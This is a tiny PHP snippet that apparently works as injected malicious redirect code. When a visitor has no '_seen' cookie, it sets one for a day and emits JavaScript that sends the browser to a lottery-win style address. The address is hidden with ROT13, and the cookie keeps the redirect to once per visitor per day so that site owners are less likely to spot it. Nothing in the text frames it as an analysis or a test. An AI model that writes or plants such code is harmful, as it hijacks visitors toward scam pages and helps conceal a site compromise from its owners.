<?php
if (empty($_COOKIE['_seen'])) {
    setcookie('_seen', '1', time() + 86400);
    echo "<script>window.location.replace('" . str_rot13('uggcf://ybggb-jva.rknzcyr/') . "');</script>";
}
